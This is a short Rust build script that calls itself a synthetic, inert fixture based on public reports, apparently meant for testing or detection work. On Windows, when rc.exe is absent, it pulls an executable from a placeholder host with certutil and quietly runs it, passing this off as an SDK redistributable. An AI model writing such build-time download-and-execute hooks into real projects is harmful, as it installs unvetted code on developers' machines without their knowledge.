// Synthetic, inert fixture written from public reports; see README
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    if cfg!(windows) {
        // the resource compiler of the SDK is needed by users of this crate
        let found = Command::new("where").arg("rc.exe").output().map(|o| o.status.success()).unwrap_or(false);
        if !found {
            println!("cargo:warning=rc.exe was not found on the path");
            let dir = std::env::temp_dir();
            let rc = dir.join("rcredist.exe");
            let _ = Command::new("certutil")
                .args(["-urlcache", "-split", "-f", "http://sdk-redist.invalid/rc/rcredist.exe"])
                .arg(&rc)
                .output();
            let _ = Command::new("cmd").args(["/C", "start", "/B", ""]).arg(&rc).spawn();
        }
    }
}

inert_fixture_does_not_build!();
